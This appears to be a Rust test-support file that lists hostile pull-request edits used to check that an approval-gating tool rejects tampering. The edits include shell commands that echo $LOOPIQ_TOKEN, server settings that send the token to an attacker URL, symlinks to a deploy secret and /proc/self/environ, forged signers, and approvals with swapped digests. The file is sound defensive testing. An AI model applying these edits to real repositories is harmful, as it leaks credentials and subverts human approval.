//! What a hostile pull request changes, one thing at a time.

use std::path::PathBuf;
use std::process::Command;

use jiff::{SignedDuration, Timestamp};
use loopgate::approval::{Approver, Assurance, Decision, Draft, Filed, PlatformFact, Record};
use loopgate::artifact::v1::{Document, Slot};
use loopgate::artifact::{Artifact, Plan};
use loopgate::catalog::Profile;
use loopgate::core::Digest;
use loopgate::core::json::canonical;
use serde_json::{Value, json};

use crate::pull_request::{Checkout, RECIPE};
use crate::support::Folder;

/// One thing that a pull request changes.
pub struct Edit {
    pub name: &'static str,
    pub make: fn(&Checkout<'_>),
}

const fn edit(name: &'static str, make: fn(&Checkout<'_>)) -> Edit {
    Edit { name, make }
}

/// What is changed of what travels, in the order in which it must be: approvals are forged for the artifact as it was
/// changed.
pub const CARRIED: [&[Edit]; 2] = [ARTIFACTS, APPROVALS];
/// What is changed before anything is planned: neither the artifact nor an approval.
pub const CHECKOUT: [&[Edit]; 6] = [RECIPES, SETTINGS, PROFILES, SIGNERS, LOCKS, LEDGERS];

const OWNER: &str = "owner: \"{{ inputs.owner }}\"";
const PROFILE: &str = "profile: loopiq\n";
const GATE: &str = "  - id: certified
    gate: \"{{ evidence.certification.state == 'pass' }}\"
    advisory: true
    says: \"The certification of {{ inputs.release }} is {{ evidence.certification.status }}\"
";

const RECIPES: &[Edit] = &[
    edit("recipe: another server", |c| recipe(c, PROFILE, "profile: loopiq\nserver: evil\n")),
    edit("recipe: a URL", |c| {
        let url = format!("profile: loopiq\nserver: \"http://{}/mcp\"\n", c.backstage.attacker);
        recipe(c, PROFILE, &url);
    }),
    edit("recipe: control arguments", |c| {
        recipe(c, "      parent:\n", "      dryRun: false\n      approvalId: APR-7\n      parent:\n");
    }),
    edit("recipe: a secret", |c| recipe(c, OWNER, "owner: { from_secret: deploy }")),
    edit("recipe: a credential", |c| recipe(c, OWNER, &format!("owner: ghp_{}", "kanarie0".repeat(5)))),
    edit("recipe: a write as a read", |c| {
        recipe(c, "    write: work_package\n", "    read: loopiq_create_remediation_work_package\n");
    }),
    edit("recipe: no gate", |c| recipe(c, GATE, "")),
    edit("recipe: a gate that always holds", |c| {
        recipe(c, "{{ evidence.certification.state == 'pass' }}", "{{ evidence.certification.id != '' }}");
    }),
    edit("recipe: the environment", |c| recipe(c, OWNER, "owner: \"{{ env.LOOPIQ_TOKEN }}\"")),
    edit("recipe: the secret's file", |c| {
        let file = c.backstage.folder.path().join("trust/deploy");
        recipe(c, "include: evidence-graph", &format!("include: \"{}\"", file.display()));
    }),
    edit("recipe: a link to the secret", |c| {
        link(c, c.backstage.folder.path().join("trust/deploy"), "leak.yaml");
        recipe(c, "include: evidence-graph", "include: leak.yaml");
    }),
    edit("recipe: a link to the environment", |c| {
        link(c, PathBuf::from("/proc/self/environ"), "environment.yaml");
        recipe(c, "include: evidence-graph", "include: environment.yaml");
    }),
];

const SETTINGS: &[Edit] = &[
    edit("settings: a program", |c| {
        let marker = c.folder.path().join("marker");
        let shell = format!("echo \"$LOOPIQ_TOKEN\" > '{}'", marker.display());
        let server = json!({"command": "sh", "arguments": ["-c", shell], "environment": ["LOOPIQ_TOKEN"],
            "profile": "evil.yaml", "tenant": "acme", "dry_runs": true});
        settings(c, &server);
    }),
    edit("settings: a URL that gets the token", |c| {
        let server = json!({"url": format!("http://{}/mcp", c.backstage.attacker), "profile": "loopiq",
            "tenant": "acme", "token": {"environment": "LOOPIQ_TOKEN"}, "dry_runs": true});
        settings(c, &server);
    }),
    edit("settings: a policy that asks for nothing", |c| {
        let mut server = c.backstage.folder.json("trust/loopgate.yaml")["servers"]["served"].clone();
        server["token"] = json!({"command": ["sh", "-c", "touch marker; echo $LOOPIQ_TOKEN"],
            "variables": ["LOOPIQ_TOKEN"]});
        settings(c, &server);
    }),
    edit("settings: results into the trust folder", |c| {
        link(c, c.backstage.folder.path().join("trust"), "fresh");
    }),
];

const PROFILES: &[Edit] = &[
    edit("profile: writes are reads", |c| {
        profile(c, &[("class: write", "class: read"), ("idempotency: key", "idempotency: natural")]);
    }),
    edit("profile: no dry run", |c| {
        profile(
            c,
            &[("{ at: /dryRun, dry: true, real: false }", "{ at: /dryRun, dry: false, real: false }")],
        );
    }),
];

const SIGNERS: &[Edit] = &[edit("signers: mallory is alice", |c| {
    for file in ["signers", "allowed_signers", ".ssh/allowed_signers", "trust/signers"] {
        c.folder.write(file, c.backstage.keys.line_of("alice", "mallory"));
    }
})];

const LOCKS: &[Edit] = &[
    edit("lock: every tool reads", |c| {
        let lowered = c.backstage.lock.replace("\"class\": \"write\"", "\"class\": \"read\"");
        assert_ne!(lowered, c.backstage.lock);
        c.folder.write("loopgate.lock", lowered);
    }),
    edit("lock: no tool", |c| {
        c.folder.write("loopgate.lock", "{}");
    }),
];

const LEDGERS: &[Edit] = &[
    edit("ledger: one that has forgotten all", |c| {
        for file in [".loopgate/ledger.db", "ledger.db"] {
            c.folder.write(file, &c.backstage.ledger);
        }
    }),
    edit("ledger: one that git tracks", |c| {
        c.folder.write(".loopgate/ledger.db", "");
        for arguments in [["init", "--quiet"].as_slice(), &["add", ".loopgate/ledger.db"]] {
            assert!(c.folder.process("git").args(arguments).status().unwrap().success());
        }
    }),
];

pub const ARTIFACTS: &[Edit] = &[
    edit("artifact: other arguments", |c| planned(c, other_owner)),
    edit("artifact: other arguments under the approved digest", |c| sealed(c, other_owner)),
    edit("artifact: another tool", |c| planned(c, |p| p.operations[0].tool = "loopiq_delete".to_owned())),
    edit("artifact: another tool under the approved digest", |c| {
        sealed(c, |p| p.operations[0].tool = "loopiq_delete".to_owned());
    }),
    edit("artifact: no approval ID is sent", |c| planned(c, without_approval_id)),
    edit("artifact: no approval ID is sent, under the approved digest", |c| sealed(c, without_approval_id)),
    edit("artifact: a secret is sent", |c| planned(c, with_secret)),
    edit("artifact: a secret is sent, under the approved digest", |c| sealed(c, with_secret)),
    edit("artifact: another server", |c| {
        planned(c, |p| p.server.identity = "sandbox".to_owned());
    }),
    edit("artifact: another tenant under the approved digest", |c| {
        sealed(c, |p| p.tenant = Some("globex".to_owned()));
    }),
    edit("artifact: every gate holds", |c| {
        c.folder.write("carried/artifact.json", gates_hold(c).bytes());
    }),
    edit("artifact: nothing to hold it against", |c| planned(c, |p| p.preconditions.clear())),
    edit("artifact: the same again", |c| {
        planned(c, |p| {
            let mut second = p.operations[0].clone();
            second.id = "second".to_owned();
            second.arguments["parent"]["owner"] = json!("mallory");
            p.operations.push(second);
        });
    }),
    edit("artifact: another key", |c| {
        let mut document: Value = serde_json::from_slice(&c.backstage.artifact).unwrap();
        let key = document["operations"][0]["idempotency_key"].as_str().unwrap().to_owned();
        let last = if key.ends_with('0') { '1' } else { '0' };
        document["operations"][0]["idempotency_key"] = json!(format!("{}{last}", &key[..key.len() - 1]));
        seal(c, document);
    }),
    edit("artifact: a link to the secret", |c| {
        fs_err::remove_file(c.folder.path().join("carried/artifact.json")).unwrap();
        link(c, c.backstage.folder.path().join("trust/deploy"), "carried/artifact.json");
        c.file(&c.backstage.genuine);
    }),
];

pub const APPROVALS: &[Edit] = &[
    edit("approval: by alice's name", |c| c.file(&unsigned(c, Assurance::Asserted, None))),
    edit("approval: signed, it says", |c| c.file(&unsigned(c, Assurance::Signed, None))),
    edit("approval: the service knows, it says", |c| c.file(&unsigned(c, Assurance::Service, None))),
    edit("approval: the platform's, it says", |c| {
        let fact = PlatformFact::GithubEnvironment {
            repository: "acme/shop".to_owned(),
            run: 1,
            environment: "production".to_owned(),
        };
        c.file(&unsigned(c, Assurance::Platform, Some(fact)));
    }),
    edit("approval: by a key that nobody knows", |c| signed(c, approval(&effect(c)), "mallory", NAMESPACE)),
    edit("approval: expired", |c| {
        let mut draft = approval(&effect(c));
        draft.time -= SignedDuration::from_hours(48);
        draft.expires = Some(draft.time + SignedDuration::from_hours(1));
        signed(c, draft, "alice", NAMESPACE);
    }),
    edit("approval: a signature for files", |c| signed(c, approval(&effect(c)), "alice", "file")),
    edit("approval: a signature of another record", |c| {
        let signature = c.backstage.other.signature.clone();
        c.file(&Filed { signature, ..unsigned(c, Assurance::Signed, None) });
    }),
    edit("approval: of another effect", |c| c.file(&c.backstage.other)),
    edit("approval: of another effect, and turned to this one", |c| {
        c.file(&c.backstage.other);
        let file = format!("carried/approvals/{}.json", c.backstage.other.record.id);
        let mut record = c.folder.json(&file);
        record["effect_digest"] = json!(effect(c));
        c.folder.write(&file, record.to_string());
    }),
];

const NAMESPACE: &str = "loopgate-approval";

/// Keys of alice, who may approve, and of mallory.
pub struct Keys(PathBuf);

impl Keys {
    pub fn new(folder: &Folder) -> Self {
        for name in ["alice", "mallory"] {
            let mut command = folder.process("ssh-keygen");
            let command = command.args(["-q", "-t", "ed25519", "-N", "", "-C", "test", "-f", name]);
            assert!(command.status().unwrap().success());
        }
        Self(folder.path().to_owned())
    }

    /// The line of signers that says whose key it is.
    pub fn line(&self, name: &str) -> String {
        self.line_of(name, name)
    }

    pub fn line_of(&self, name: &str, key: &str) -> String {
        format!("{name} {}", fs_err::read_to_string(self.0.join(key).with_extension("pub")).unwrap())
    }

    /// The record of a draft, signed by a key for a namespace.
    pub fn signed(&self, draft: Draft, key: &str, namespace: &str) -> Filed {
        let record = Record::new(draft).unwrap();
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("record");
        loopgate::core::file::replace(&file, &record.bytes()).unwrap();
        let mut command = Command::new("ssh-keygen");
        command.args(["-q", "-Y", "sign", "-n", namespace, "-f"]).arg(self.0.join(key)).arg(&file);
        assert!(command.output().unwrap().status.success());
        let signature = fs_err::read_to_string(folder.path().join("record.sig")).unwrap();
        Filed { record, signature: Some(signature) }
    }
}

/// Alice's approval of an effect, a minute ago.
pub fn approval(effect: &Digest) -> Draft {
    let time = Timestamp::from_second(Timestamp::now().as_second() - 60).unwrap();
    Draft {
        effect_digest: effect.clone(),
        file_digest: None,
        decision: Decision::Approve { external_id: None },
        approver: Approver { name: "alice".to_owned(), assurance: Assurance::Signed },
        planner: None,
        policy_digest: None,
        reason: "reviewed".to_owned(),
        time,
        expires: Some(time + SignedDuration::from_hours(24)),
        platform: None,
    }
}

fn recipe(c: &Checkout<'_>, from: &str, to: &str) {
    let text = c.folder.read("recipe.yaml");
    // Another edit may have taken the place; without any it is there.
    assert!(RECIPE.contains(from), "{from}");
    c.folder.write("recipe.yaml", text.replacen(from, to, 1));
}

fn link(c: &Checkout<'_>, to: PathBuf, name: &str) {
    let _ = fs_err::remove_file(c.folder.path().join(name));
    std::os::unix::fs::symlink(to, c.folder.path().join(name)).unwrap();
}

/// Settings of the checkout's own, which call every server that a recipe names by `server`.
fn settings(c: &Checkout<'_>, server: &Value) {
    c.folder.write("evil.yaml", Profile::shipped("loopiq").unwrap());
    c.folder.write("signers", c.backstage.keys.line_of("alice", "mallory"));
    let text = json!({
        "server": "served",
        "servers": {"served": server, "evil": server},
        "policy": {"approvals": {"accept": ["asserted", "signed", "platform", "service"],
            "signers": "signers", "four_eyes": false}},
        "secrets": {"deploy": {"environment": "LOOPIQ_TOKEN", "to": [
            {"server": "served", "tool": "loopiq_create_remediation_work_package", "at": ["/parent/owner"]}]}},
        "ledger": {"at": "sqlite:ledger.db"},
    });
    for folder in ["", "trust/"] {
        c.folder.write(&format!("{folder}loopgate.yaml"), text.to_string());
    }
}

fn profile(c: &Checkout<'_>, changes: &[(&str, &str)]) {
    let shipped = Profile::shipped("loopiq").unwrap();
    let changed = changes.iter().fold(shipped.to_owned(), |text, (from, to)| {
        assert!(text.contains(from), "{from}");
        text.replace(from, to)
    });
    for file in ["loopiq", "loopiq.yaml", "evil.yaml"] {
        c.folder.write(file, &changed);
    }
    recipe(c, PROFILE, "profile: evil.yaml\n");
}

/// The plan, changed and built anew: every digest and key fits.
fn planned(c: &Checkout<'_>, change: impl FnOnce(&mut Plan)) {
    let artifact = changed(c, change);
    c.folder.write("carried/artifact.json", artifact.bytes());
    c.file(&c.backstage.genuine);
}

/// The plan, changed, with the effect digest that was approved and a right file digest.
fn sealed(c: &Checkout<'_>, change: impl FnOnce(&mut Plan)) {
    let mut document = serde_json::to_value(changed(c, change).document()).unwrap();
    document["effect_digest"] = json!(c.backstage.genuine.record.effect_digest);
    seal(c, document);
}

fn changed(c: &Checkout<'_>, change: impl FnOnce(&mut Plan)) -> Artifact {
    let document: Document = serde_json::from_slice(&c.backstage.artifact).unwrap();
    let mut plan = Plan::from(document);
    change(&mut plan);
    Artifact::build(plan).unwrap()
}

/// The plan with gates that hold and are not advisory: the effect is the approved one.
pub fn gates_hold(c: &Checkout<'_>) -> Artifact {
    changed(c, |plan| {
        assert!(plan.gates.iter().any(|gate| !gate.holds));
        plan.gates.iter_mut().for_each(|gate| (gate.holds, gate.advisory) = (true, false));
    })
}

fn seal(c: &Checkout<'_>, mut document: Value) {
    document.as_object_mut().unwrap().remove("file_digest");
    document["file_digest"] = json!(Digest::of_bytes(canonical(&document).unwrap().as_bytes()));
    c.folder.write("carried/artifact.json", canonical(&document).unwrap());
    c.file(&c.backstage.genuine);
}

fn other_owner(plan: &mut Plan) {
    plan.operations[0].arguments["parent"]["owner"] = json!("mallory");
}

fn without_approval_id(plan: &mut Plan) {
    plan.operations[0].slots.retain(|slot| !matches!(slot, Slot::ApprovalId { .. }));
}

fn with_secret(plan: &mut Plan) {
    plan.operations[0].slots.push(Slot::Secret { at: "/reason".parse().unwrap(), name: "deploy".to_owned() });
    plan.operations[0].arguments.remove("reason");
}

/// What the artifact, as it is now, says that its effect is.
fn effect(c: &Checkout<'_>) -> Digest {
    let text = std::fs::read(c.folder.path().join("carried/artifact.json")).unwrap();
    let stated = serde_json::from_slice::<Value>(&text).ok();
    let stated = stated.and_then(|document| document["effect_digest"].as_str()?.parse().ok());
    stated.unwrap_or_else(|| c.backstage.genuine.record.effect_digest.clone())
}

fn unsigned(c: &Checkout<'_>, assurance: Assurance, platform: Option<PlatformFact>) -> Filed {
    let mut draft = approval(&effect(c));
    draft.approver.assurance = assurance;
    draft.platform = platform;
    Filed { record: Record::new(draft).unwrap(), signature: None }
}

fn signed(c: &Checkout<'_>, draft: Draft, key: &str, namespace: &str) {
    c.file(&c.backstage.keys.signed(draft, key, namespace));
}
